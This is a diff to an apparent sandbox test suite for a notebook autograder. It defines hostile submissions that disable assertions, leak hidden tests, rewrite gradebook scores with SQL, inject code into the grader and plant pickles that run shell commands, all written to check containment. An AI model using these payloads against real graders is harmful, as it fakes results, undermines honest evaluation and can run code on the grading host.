@@ -30,7 +30,7 @@ import sqlite3
 import subprocess
 import sys
 import time
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 from pathlib import Path
 
 REPO = Path(__file__).resolve().parents[2]
@@ -146,15 +146,16 @@ class Attack:
     modes: tuple[str, ...] = ("bubblewrap",)
     bundle: str = "fast"  # fast | lowmem | tight: bundle copies with smaller limits
     assignment_flag: bool = False  # grade with --assignment (file-level attacks)
-    runner: str = "cli"  # cli: `mlgrader grade --json`; api: grade_notebook() measuring the grader's memory
+    # cli: `mlgrader grade --json` (pre-warmed, see Zygote); console: the console script itself;
+    # api: grade_notebook() in a fresh interpreter, measuring the grader's memory
+    runner: str = "cli"
     grader_copy: bool = False  # run the grader from a throwaway copy of src/ (PYTHONPATH)
+    followup_base: str | None = None  # then grade this honest base with the same grader: it must get its score
     max_grader_rss_mb: float | None = None
     # Known vulnerabilities: {mode: reason}. "contained" = test_attack_is_contained,
     # "reported" = test_attack_is_reported; the tests are marked xfail(strict=True).
     xfail_contained: tuple[tuple[str, str], ...] = ()
     xfail_reported: tuple[tuple[str, str], ...] = ()
-    # What nbgrader and otter make of it (benchmarks/attacks/run.py); None = not applicable.
-    benchmark: bool = True
 
     @property
     def allowed(self) -> float:
@@ -212,21 +213,24 @@ builtins.AssertionError = type("AssertionError", (Exception,), {})
 
 INPUT_TRANSFORMER = """\
 import ast
-def neuter(lines):
-    out = []
-    for line in lines:
-        body = line.lstrip()
-        if body.startswith(("assert ", "check_", "np.testing.")):
-            line = line[: len(line) - len(body)] + "pass\\n"
-        out.append(line)
-    return out
-class DropAsserts(ast.NodeTransformer):
+class Neuter(ast.NodeTransformer):
+    # `assert ...` and calls like check_close(...) / np.testing.assert_allclose(...) become `pass`
     def visit_Assert(self, node):
         return ast.Pass()
+    def visit_Expr(self, node):
+        func = node.value.func if isinstance(node.value, ast.Call) else None
+        name = getattr(func, "id", None) or getattr(func, "attr", "")
+        return ast.Pass() if name.startswith(("check_", "assert_")) else node
+def neuter(lines):
+    # an input transformer: rewrites the text of every later cell before it runs
+    try:
+        tree = ast.parse("".join(lines))
+    except SyntaxError:
+        return lines
+    return [line + "\\n" for line in ast.unparse(ast.fix_missing_locations(Neuter().visit(tree))).split("\\n")]
 ip = get_ipython()
-ip.input_transformers_cleanup.append(neuter)
 ip.input_transformers_post.append(neuter)
-ip.ast_transformers.append(DropAsserts())
+ip.ast_transformers.append(Neuter())
 """
 
 HOOKS = """\
@@ -366,7 +370,7 @@ def grab(path):
         return
     if "HIDDEN" in text or "check_close(" in text or path.endswith("manifest.json"):
         found.append(f"== {path}\\n{text}")
-roots = ["/autograder", "/work", os.getcwd(), os.path.expanduser("~"), "/tmp", "/srv", "/opt", "/home", "/root", "/"]
+roots = ["/autograder", "/tmp", "/work", os.getcwd(), os.path.expanduser("~"), "/srv", "/opt", "/home", "/root", "/"]
 try:  # where was the grader started, and with which --autograder folder?
     parent = os.getppid()
     argv = open(f"/proc/{parent}/cmdline", "rb").read().split(b"\\0")
@@ -388,6 +392,7 @@ for root in roots:
         for name in filenames:
             if name == "manifest.json" or (name.endswith(".py") and ("test" in name or "check" in name)):
                 grab(os.path.join(dirpath, name))
+found.sort(key=lambda text: "HIDDEN" not in text)  # the best loot first
 loot = "\\n".join(found)
 print(loot[:200_000])
 def df(x):  # the grader calls this: hand the loot back in the error message
@@ -418,20 +423,27 @@ for target in targets:
 
 GRADEBOOK = """\
 import os, sqlite3
-paths = ["gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db",
-         os.path.expanduser("~/gradebook.db"), "@COURSE@/gradebook.db", "/work/main/gradebook.db"]
+paths = @PATHS@
 for path in paths:
     if not os.path.exists(path):  # never create one: only change a real gradebook
         print("no gradebook at", path)
         continue
-    try:
-        db = sqlite3.connect(path)
-        db.execute("UPDATE grade SET auto_score = max_score, manual_score = max_score")
-        db.commit()
-        print("updated", path)
-    except Exception as exc:
-        print("could not update", path, exc)
+    for sql in ("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)",
+                "UPDATE grade SET auto_score = max_score, manual_score = max_score"):  # nbgrader's schema, a simpler one
+        try:
+            db = sqlite3.connect(path, timeout=20)
+            db.execute(sql)
+            db.commit()
+            db.close()
+            print("updated", path)
+            break
+        except Exception as exc:
+            print("could not update", path, exc)
 """
+GRADEBOOK_RELATIVE = GRADEBOOK.replace("@PATHS@", repr(["gradebook.db", "../gradebook.db", "../../gradebook.db",
+                                                          "../../../gradebook.db", "../../../../gradebook.db"]))
+GRADEBOOK_ABSOLUTE = GRADEBOOK.replace("@PATHS@", '["@COURSE@/gradebook.db", "/work/main/gradebook.db", '
+                                                  'os.path.expanduser("~/gradebook.db")]')
 
 NETWORK = """\
 import socket
@@ -536,8 +548,10 @@ for _ in range(100):  # 100 MB of output
 MIME_FLOOD = """\
 from IPython.display import publish_display_data
 chunk = "x" * 10_000_000
-for _ in range(40):  # 400 MB in outputs whose type mentions "mlgrader"
+for _ in range(30):  # 300 MB in outputs whose type mentions "mlgrader" (the reply's does too)
     publish_display_data({"application/x-mlgrader-flood": chunk})
+for _ in range(30):  # and 300 MB of plain prints, in 10 MB pieces
+    print(chunk)
 """
 
 HUGE_ERROR = """\
@@ -699,7 +713,8 @@ subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", "@TOKEN@"
 OVERWRITE_GRADER = """\
 import os, pathlib
 EVIL = '''
-# appended by a submission: every test of this grade counts as passed
+# appended by a submission: runs in every grader that imports mlgrader.checks from now on
+open("@MARKER@", "w").write("code from a submission ran in a later grader")
 import mlgrader.grade as _g
 from mlgrader.results import TestResult as _TR
 _g.TestResult = lambda name, score, max_score, status, output="": _TR(name, max_score, max_score, "passed", "")
@@ -719,6 +734,36 @@ except OSError as exc:
 print("patched", hits)
 """
 
+PICKLE_DUMP_FORGED = """\
+import os, pickle
+class Bait:
+    def __reduce__(self):
+        return (os.system, ("touch @MARKER@",))
+_real_dump = pickle.dump
+def dump(obj, fh, *args, **kwargs):
+    # Whatever a grader in this kernel saves with pickle: full marks, and code for whoever loads it.
+    try:
+        for name in list(obj.results):
+            obj.update_score(name, obj.results[name].possible)
+        obj.bait = Bait()
+    except Exception:
+        pass
+    return _real_dump(obj, fh, *args, **kwargs)
+pickle.dump = dump
+"""
+
+PATCH_OTTER = """\
+try:
+    from otter.test_files import abstract_test, exception_test
+    def passed(self, global_environment):
+        self.test_case_results = [abstract_test.TestCaseResult(test_case=tc, message="passed", passed=True)
+                                  for tc in self.test_cases]
+    exception_test.ExceptionTestFile.run = passed
+    abstract_test.TestFile.run = passed
+except ImportError:
+    pass
+"""
+
 STDERR_WARNING = """\
 import sys, warnings
 warnings.warn("this learning rate is on the large side")
@@ -732,11 +777,11 @@ def _after(gid: str, code: str) -> tuple[str, str]:
 
 ATTACKS: tuple[Attack, ...] = (
     # -- baselines: the honest notebooks the attacks start from ---------------------------
-    Attack("baseline-stub", "the untouched student release", "stub", exact_score=0.0,
+    Attack("baseline-stub", "the untouched student release", "stub", runner="console", exact_score=0.0,
            ),
-    Attack("baseline-wrong", "a solution whose df returns x instead of 2x", "wrong", exact_score=5.0,
+    Attack("baseline-wrong", "a solution whose df returns x instead of 2x", "wrong", runner="console", exact_score=5.0,
            ),
-    Attack("baseline-solved", "the complete solution", "solved", exact_score=8.0,
+    Attack("baseline-solved", "the complete solution", "solved", runner="console", exact_score=8.0,
            modes=("bubblewrap", "subprocess")),
     Attack("stderr-warning", "a correct answer that warns and writes to stderr in every exercise", "solved",
            cells=tuple(_after(g, STDERR_WARNING) for g in EXERCISES), exact_score=8.0),
@@ -746,10 +791,13 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("patch-np-allclose", "np.allclose = lambda *a, **k: True; np.isclose, np.all likewise", "wrong",
            cells=(_after("setup-1", PATCH_ALLCLOSE),), exact_score=5.0),
     Attack("patch-mlgrader-checks", "replace mlgrader.checks' functions with no-ops in the kernel", "wrong",
-           cells=(_after("setup-1", PATCH_MLGRADER_CHECKS),), exact_score=5.0, modes=("bubblewrap", "subprocess")),
+           cells=(_after("setup-1", PATCH_MLGRADER_CHECKS),), exact_score=5.0),
+    Attack("patch-otter-checker", "make otter's test files pass every case (its check machinery, in the kernel)",
+           "stub", cells=(_after("setup-2", PATCH_OTTER),), exact_score=0.0),
     Attack("patch-builtins", "builtins.__import__ hands out fake checks; abs() returns 0; a new AssertionError",
            "wrong", cells=(_after("derivative", PATCH_BUILTINS),)),
-    Attack("input-transformer", "IPython input and AST transformers turn later `assert`/check lines into `pass`",
+    Attack("input-transformer", "an IPython input transformer (and an AST transformer) turns every later `assert` "
+                                "and check_*/assert_* call into `pass`",
            "wrong", cells=(_after("setup-1", INPUT_TRANSFORMER),), exact_score=5.0,
            ),
     Attack("hooks-custom-exc", "post_run_cell hook clears errors; set_custom_exc swallows every exception",
@@ -764,21 +812,13 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("agent-deleted", "del __mlgrader_agent__ after a correct solution: tests cannot read anything",
            "solved", cells=(_after("setup-2", AGENT_DELETED),), exact_score=0.0, expect=("helper",)),
     Attack("agent-malformed-reply", "the fake helper answers {'t': 'float', 'v': 'not-a-number'}", "stub",
-           cells=(_after("setup-2", AGENT_MALFORMED),), exact_score=0.0,
-           xfail_reported=(("bubblewrap", "VULN: wire.decode raises ValueError on a malformed reply; run_test does "
-                                          "not catch it while exporting names, so `mlgrader grade` crashes"),)),
+           cells=(_after("setup-2", AGENT_MALFORMED),), exact_score=0.0),
     Attack("agent-module-main", "the fake helper names torch.utils.model_dump.__main__: the grader imports it",
-           "stub", cells=(_after("setup-2", AGENT_MODULE_MAIN),), exact_score=0.0,
-           xfail_reported=(("bubblewrap", "VULN: remote._grader_module imports any module under the allowed roots, "
-                                          "incl. __main__ modules that call sys.exit(): SystemExit kills the grade"),)),
+           "stub", cells=(_after("setup-2", AGENT_MODULE_MAIN),), exact_score=0.0),
     Attack("iopub-nested-json", "a raw signed iopub message whose content is JSON nested 200000 deep", "stub",
-           cells=(_after("setup-2", IOPUB_NESTED_JSON),), exact_score=0.0,
-           xfail_reported=(("bubblewrap", "VULN: RecursionError while decoding the kernel's message escapes "
-                                          "SandboxKernel.run (only DeadKernelError is caught): the grader crashes"),)),
+           cells=(_after("setup-2", IOPUB_NESTED_JSON),), exact_score=0.0, expect=("could not read",)),
     Attack("iopub-content-not-dict", "a raw signed stream message whose content is a JSON list", "stub",
-           cells=(_after("setup-2", IOPUB_NOT_A_DICT),), exact_score=0.0,
-           xfail_reported=(("bubblewrap", "VULN: nbclient's process_message raises AttributeError on a non-dict "
-                                          "content; SandboxKernel.run does not catch it: the grader crashes"),)),
+           cells=(_after("setup-2", IOPUB_NOT_A_DICT),), exact_score=0.0, expect=("could not read",)),
     Attack("forged-reply-first", "df publishes a forged helper reply before the real one", "wrong",
            cells=(_after("derivative", FORGED_REPLY_FIRST),), exact_score=5.0),
     Attack("detect-grader", "df notices it is called by the grader's helper and returns NaNs instead", "wrong",
@@ -788,30 +828,34 @@ ATTACKS: tuple[Attack, ...] = (
            "wrong", cells=(_after("setup-1", FAKE_MODULES_IN_CWD),), exact_score=5.0),
     Attack("read-hidden-tests", "walk the file system (bundle, /work, the repo, /) for hidden tests and leak them "
                                 "through cell errors, exceptions the grader reads, and prints", "stub",
-           cells=(_after("setup-2", READ_HIDDEN_TESTS),), exact_score=0.0, modes=("bubblewrap", "subprocess"),
+           cells=(("append:derivative", READ_HIDDEN_TESTS),), exact_score=0.0, modes=("bubblewrap", "subprocess"),
            xfail_contained=(("subprocess", "VULN (fallback mode): the kernel runs as root with the bundle readable; "
                                            "hidden tests leak into the result JSON"),)),
     Attack("forged-result-files", "write results.json, grades.csv and feedback in cwd, .., the course folder "
                                   "and /autograder/results", "stub", cells=(_after("setup-2", FORGED_RESULTS),),
            exact_score=0.0),
-    Attack("gradebook-update", "UPDATE grade SET auto_score = max_score in gradebook.db by relative and absolute "
-                               "paths", "stub", cells=(_after("setup-2", GRADEBOOK),), exact_score=0.0,
-           modes=("bubblewrap", "subprocess"),
+    Attack("gradebook-relative", "UPDATE grade SET manual_score = max_score in ../gradebook.db, ../../gradebook.db, ...",
+           "stub", cells=(_after("setup-2", GRADEBOOK_RELATIVE),), exact_score=0.0),
+    Attack("gradebook-absolute", "the same UPDATE through absolute paths (the course folder, /work/main)", "stub",
+           cells=(_after("setup-2", GRADEBOOK_ABSOLUTE),), exact_score=0.0, modes=("bubblewrap", "subprocess"),
            xfail_contained=(("subprocess", "VULN (fallback mode): the kernel runs as root and rewrites the course's "
                                            "gradebook.db by its absolute path"),)),
     Attack("overwrite-grader-code", "find the grader's mlgrader package via /proc/<ppid>/environ and append code "
-                                    "to checks.py, which the grader imports at the first test", "wrong",
-           cells=(_after("setup-1", OVERWRITE_GRADER),), exact_score=5.0, grader_copy=True,
+                                    "to checks.py; the next grade with that installation (an honest stub) runs it",
+           "wrong", cells=(_after("setup-1", OVERWRITE_GRADER),), exact_score=5.0, grader_copy=True,
+           followup_base="stub", runner="console",
            modes=("subprocess",),  # bubblewrap: see test_sandbox (only the scratch dir is writable)
-           xfail_contained=(("subprocess", "VULN (fallback mode): the kernel runs as root, rewrites the grader's "
-                                           "mlgrader/checks.py and every test passes"),)),
+           xfail_contained=(("subprocess", "VULN (fallback mode): the kernel runs as root and rewrites the grader's "
+                                           "mlgrader/checks.py: the next grade runs the submission's code and gives "
+                                           "the untouched stub 8/8"),)),
     Attack("pickle-files", "leave pickles (model.pt, results.pkl, an object .npy) whose __reduce__ runs a shell "
                            "command, and set tested names to such objects", "stub",
            cells=(_after("setup-2", PICKLE_FILES),), exact_score=0.0),
+    Attack("pickle-dump-forged", "patch pickle.dump in the kernel: any grader that pickles its results there saves "
+                                 "full marks and a __reduce__ that runs a shell command when loaded", "stub",
+           cells=(_after("setup-2", PICKLE_DUMP_FORGED),), exact_score=0.0),
     Attack("pickle-in-reply", "the fake helper answers with an object-dtype .npy (a pickle) as array data", "stub",
-           cells=(_after("setup-2", PICKLE_IN_REPLY),), exact_score=0.0,
-           xfail_reported=(("bubblewrap", "VULN: np.load's ValueError for an object array escapes run_test while "
-                                          "exporting names: nothing is unpickled, but the grader crashes"),)),
+           cells=(_after("setup-2", PICKLE_IN_REPLY),), exact_score=0.0),
     # -- the network and processes ------------------------------------------------------------
     Attack("network", "TCP to a listener on the host's 127.0.0.1 and to outside addresses, UDP, DNS", "stub",
            cells=(_after("setup-2", NETWORK),), exact_score=0.0),
@@ -832,12 +876,13 @@ ATTACKS: tuple[Attack, ...] = (
            cells=(_after("setup-2", FORK_BOMB),), exact_score=0.0),
     Attack("infinite-loop", "while True: pass in an exercise cell", "stub",
            cells=(("append:derivative", INFINITE_LOOP),), exact_score=0.0, expect=("time limit",),
-           modes=("bubblewrap", "subprocess")),
+           modes=("bubblewrap", "subprocess"), bundle="short"),
     Attack("infinite-loop-no-sigint", "ignore SIGINT, then loop forever: the kernel cannot be interrupted",
            "stub", cells=(("append:derivative", LOOP_IGNORING_SIGINT),), exact_score=0.0,
-           expect=("time limit", "died")),
+           expect=("time limit", "died"), bundle="short"),
     Attack("loop-when-graded", "df loops forever on the grader's hidden array input", "solved",
-           cells=(("replace:derivative", LOOP_WHEN_GRADED),), exact_score=7.0, expect=("did not finish",)),
+           cells=(("replace:derivative", LOOP_WHEN_GRADED),), exact_score=7.0, expect=("did not finish",),
+           bundle="short"),
     Attack("notebook-time-limit", "cells that each stay under the cell limit but exceed the notebook limit",
            "solved", cells=tuple(_after("derivative", SLEEPY_CELLS) for _ in range(4)), bundle="tight",
            max_score=8.0, expect=("time limit of",)),
@@ -848,15 +893,14 @@ ATTACKS: tuple[Attack, ...] = (
            bundle="lowmem"),
     Attack("output-flood", "print 100 MB", "stub", cells=(("append:derivative", PRINT_FLOOD),), exact_score=0.0,
            expect=("printed too much",)),
-    Attack("output-flood-mlgrader-mime", "400 MB of display_data whose MIME type contains 'mlgrader' (the output "
-                                         "cap lets those through)", "stub",
-           cells=(("append:derivative", MIME_FLOOD),), exact_score=0.0, runner="api", max_grader_rss_mb=300,
-           xfail_contained=(("bubblewrap", "VULN: _CappedClient.output never drops messages whose data keys "
-                                           "mention 'mlgrader': the grader keeps all 400 MB in memory"),)),
+    Attack("output-flood-grader-memory", "600 MB of output in 10 MB messages, half of them display_data whose MIME "
+                                         "type mentions 'mlgrader': the grader's own memory must stay bounded",
+           "stub", cells=(("append:derivative", MIME_FLOOD),), exact_score=0.0, runner="api", max_grader_rss_mb=500,
+           xfail_contained=(("bubblewrap", "VULN: the grader's memory grows with the volume of output the kernel "
+                                           "sends faster than it is read (queued iopub messages, each decoded "
+                                           "before the cap drops it): ~3x the output; 1.5 GB printed -> 4.4 GB"),)),
     Attack("huge-error-message", "raise RuntimeError('A' * 20_000_000)", "stub",
-           cells=(("append:derivative", HUGE_ERROR),), exact_score=0.0,
-           xfail_contained=(("bubblewrap", "VULN: a cell's exception text is copied unbounded into "
-                                           "cells[].error: a 20 MB result JSON"),)),
+           cells=(("append:derivative", HUGE_ERROR),), exact_score=0.0),
     # -- values that are hostile to the grader ------------------------------------------------
     Attack("hostile-dunders", "objects equal to everything whose __len__/__array__/__repr__ raise and "
                               "__float__ lies", "stub", cells=(_after("setup-2", HOSTILE_DUNDERS),), exact_score=0.0),
@@ -908,22 +952,14 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("binary-file", "random bytes named .ipynb", "stub", transform="binary_file", assignment_flag=True,
            exact_score=0.0, expect=("not a text file",)),
     Attack("non-string-source", "cells whose source is a number or a list of numbers", "solved",
-           transform="non_string_source", assignment_flag=True, exact_score=0.0, expect=("malformed",)),
+           transform="non_string_source", assignment_flag=True, exact_score=0.0, expect=("not a well-formed notebook",)),
     Attack("huge-file", "a 65 MB notebook (one enormous markdown cell)", "stub", transform="huge_file",
            assignment_flag=True, exact_score=0.0, expect=("over 64 MB",)),
     Attack("bundle-path-absolute", "metadata assignment = absolute path of a bundle the student shipped "
                                    "(tests: `pass` plus code that runs in the grader)", "stub",
-           transform="evil_bundle_absolute", exact_score=0.0,
-           xfail_contained=(("bubblewrap", "VULN: find_bundle joins the notebook's metadata assignment to "
-                                           "--autograder unchecked: a student bundle is graded (8/8) and its "
-                                           "tests run as code in the grader"),),
-           xfail_reported=(("bubblewrap", "VULN: graded as assignment '/...evil-bundle' instead of "
-                                          "01-gradient-descent"),)),
+           transform="evil_bundle_absolute", exact_score=0.0),
     Attack("bundle-path-relative", "metadata assignment = ../<path> to a bundle the student shipped", "stub",
-           transform="evil_bundle_relative", exact_score=0.0,
-           xfail_contained=(("bubblewrap", "VULN: a '../' assignment id escapes --autograder (see "
-                                           "bundle-path-absolute)"),),
-           xfail_reported=(("bubblewrap", "VULN: graded as assignment '../...' instead of 01-gradient-descent"),)),
+           transform="evil_bundle_relative", exact_score=0.0),
 )
 
 
@@ -1150,6 +1186,8 @@ BUNDLE_VARIANTS = {
     "fast": {"cell_timeout": 10.0, "test_timeout": 10.0, "timeout": 120.0},
     "lowmem": {"cell_timeout": 10.0, "test_timeout": 10.0, "timeout": 120.0, "memory_mb": 1024},
     "tight": {"cell_timeout": 10.0, "test_timeout": 10.0, "timeout": 10.0},
+    # for endless loops: the limits are what the attack spends
+    "short": {"cell_timeout": 5.0, "test_timeout": 10.0, "timeout": 120.0},
 }
 
 
@@ -1237,6 +1275,104 @@ print(result.to_json())
 print(f"MLGRADER-GRADER-MAXRSS-MB={resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024:.1f}", file=sys.stderr)
 """
 
+# A pre-warmed `mlgrader` command line: this process imports the grader once, then forks
+# one child per grade that runs exactly what the console script runs, ``mlgrader.cli.main``
+# with the same argv, cwd and environment, with stdout/stderr to files and its return value
+# as exit status. It saves the ~1.4 CPU-seconds of imports per grade (the test machine has
+# two slow cores); each grade is still its own process, as with the console script.
+ZYGOTE = """\
+import json, os, select, sys, traceback
+import mlgrader.cli, mlgrader.grade, mlgrader.checks, mlgrader.sandbox, nbclient, nbformat, numpy
+requests, children = sys.stdin.buffer, {}
+def reply(obj):
+    sys.stdout.write(json.dumps(obj) + "\\n"); sys.stdout.flush()
+reply({"ready": True})
+while True:
+    ready, _, _ = select.select([requests], [], [], 0.05)
+    if ready:
+        line = requests.readline()
+        if not line:
+            break
+        job = json.loads(line)
+        pid = os.fork()
+        if pid == 0:
+            code = 1
+            try:
+                os.chdir(job["cwd"])
+                os.environ.clear(); os.environ.update(job["env"])
+                for fd, path in ((1, job["out"]), (2, job["err"])):
+                    os.dup2(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644), fd)
+                os.dup2(os.open(os.devnull, os.O_RDONLY), 0)
+                sys.stdout = open(1, "w", closefd=False); sys.stderr = open(2, "w", closefd=False)
+                sys.argv = ["mlgrader", *job["argv"]]
+                try:
+                    code = mlgrader.cli.main(job["argv"])
+                except SystemExit as exc:
+                    code = exc.code if isinstance(exc.code, int) else 1
+                except BaseException:
+                    traceback.print_exc()
+                    code = 1
+            finally:
+                try:
+                    sys.stdout.flush(); sys.stderr.flush()
+                finally:
+                    os._exit(code if isinstance(code, int) else 1)
+        children[pid] = job["id"]
+    while children:
+        pid, status = os.waitpid(-1, os.WNOHANG)
+        if pid == 0:
+            break
+        reply({"id": children.pop(pid), "rc": os.waitstatus_to_exitcode(status)})
+"""
+
+
+class Zygote:
+    """Runs `mlgrader grade` argv lists in children of one pre-warmed process (see ZYGOTE)."""
+
+    def __init__(self, scratch: Path):
+        import threading
+
+        self._scratch = Path(scratch)
+        self._scratch.mkdir(parents=True, exist_ok=True)
+        env = grader_env()
+        env["OPENBLAS_NUM_THREADS"] = "1"  # no BLAS threads to lose across fork()
+        self._proc = subprocess.Popen([sys.executable, "-P", "-c", ZYGOTE], stdin=subprocess.PIPE,
+                                      stdout=subprocess.PIPE, env=env, cwd=self._scratch)
+        assert json.loads(self._proc.stdout.readline()) == {"ready": True}
+        self._lock = threading.Lock()
+        self._waiting: dict[int, list] = {}
+        self._next = 0
+        self._reader = threading.Thread(target=self._read, daemon=True)
+        self._reader.start()
+
+    def _read(self):
+        for line in self._proc.stdout:
+            message = json.loads(line)
+            with self._lock:
+                slot = self._waiting.get(message["id"])
+            if slot is not None:
+                slot[1] = message["rc"]
+                slot[0].set()
+
+    def run(self, argv: list[str], cwd: Path, env: dict[str, str], timeout: float) -> tuple[int, str, str]:
+        import threading
+
+        with self._lock:
+            self._next += 1
+            job_id = self._next
+            slot = self._waiting[job_id] = [threading.Event(), None]
+            out, err = self._scratch / f"{job_id}.out", self._scratch / f"{job_id}.err"
+            self._proc.stdin.write((json.dumps({"id": job_id, "argv": argv, "cwd": str(cwd), "env": env,
+                                                "out": str(out), "err": str(err)}) + "\n").encode())
+            self._proc.stdin.flush()
+        if not slot[0].wait(timeout):
+            raise subprocess.TimeoutExpired(argv, timeout)
+        return slot[1], out.read_text(errors="replace"), err.read_text(errors="replace")
+
+    def close(self):
+        self._proc.stdin.close()
+        self._proc.wait(timeout=30)
+
 
 def venv_bin() -> Path:
     return Path(sys.executable).parent
@@ -1253,25 +1389,35 @@ def grader_env(pythonpath: Path | None = None) -> dict[str, str]:
 
 
 def grade(notebook: Path, *, mode: str, autograder_root: Path, cwd: Path, assignment: str | None = None,
-          runner: str = "cli", pythonpath: Path | None = None, timeout: float = 300) -> Outcome:
-    """Grade ``notebook`` with the real command line (or the Python API, measuring memory)."""
-    if runner == "cli":
-        mlgrader = venv_bin() / "mlgrader"
-        argv = [str(mlgrader) if mlgrader.exists() else "mlgrader", "grade", str(notebook), "--json",
-                "--autograder", str(autograder_root), "--sandbox", mode]
-        if assignment:
-            argv += ["--assignment", assignment]
-    else:
-        argv = [sys.executable, "-P", "-c", API_RUNNER, str(notebook), str(autograder_root), mode]
+          runner: str = "cli", pythonpath: Path | None = None, timeout: float = 300,
+          zygote: Zygote | None = None) -> Outcome:
+    """Grade ``notebook`` with the real command line (or the Python API, measuring memory).
+
+    runner "console" runs the `mlgrader` console script; "cli" too, or with a ``zygote`` the
+    same command line in a pre-warmed child; "api" calls grade_notebook() in a fresh interpreter
+    and reports the grader's peak memory.
+    """
+    args = ["grade", str(notebook), "--json", "--autograder", str(autograder_root), "--sandbox", mode]
+    if assignment:
+        args += ["--assignment", assignment]
     started = time.monotonic()
-    proc = subprocess.run(argv, cwd=cwd, env=grader_env(pythonpath), capture_output=True, text=True,
-                          errors="replace", timeout=timeout)
-    outcome = Outcome(proc.returncode, proc.stdout, proc.stderr, time.monotonic() - started)
+    if runner == "cli" and zygote is not None and pythonpath is None:
+        returncode, stdout, stderr = zygote.run(args, cwd, grader_env(), timeout)
+    else:
+        if runner in ("cli", "console"):
+            mlgrader = venv_bin() / "mlgrader"
+            argv = [str(mlgrader) if mlgrader.exists() else "mlgrader", *args]
+        else:
+            argv = [sys.executable, "-P", "-c", API_RUNNER, str(notebook), str(autograder_root), mode]
+        proc = subprocess.run(argv, cwd=cwd, env=grader_env(pythonpath), capture_output=True, text=True,
+                              errors="replace", timeout=timeout)
+        returncode, stdout, stderr = proc.returncode, proc.stdout, proc.stderr
+    outcome = Outcome(returncode, stdout, stderr, time.monotonic() - started)
     try:
-        outcome.result = json.loads(proc.stdout) if proc.stdout.strip() else None
+        outcome.result = json.loads(stdout) if stdout.strip() else None
     except json.JSONDecodeError:
         outcome.result = None
-    found = re.search(r"MLGRADER-GRADER-MAXRSS-MB=([0-9.]+)", proc.stderr)
+    found = re.search(r"MLGRADER-GRADER-MAXRSS-MB=([0-9.]+)", stderr)
     if found:
         outcome.grader_rss_mb = float(found.group(1))
     return outcome
